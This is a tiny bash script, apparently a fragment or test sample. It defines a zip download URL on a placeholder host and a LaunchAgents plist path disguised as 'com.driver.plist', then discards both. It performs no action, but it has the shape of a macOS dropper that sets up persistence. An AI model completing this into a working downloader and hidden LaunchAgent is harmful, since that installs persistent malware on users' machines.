#!/bin/bash
ZIP_INTEL='https://l.invalid/i.zip'
ZIP_URL=$ZIP_INTEL
PLISST_FILE=~/Library/LaunchAgents/com.driver.plist
echo "$ZIP_URL" "$PLISST_FILE" > /dev/null
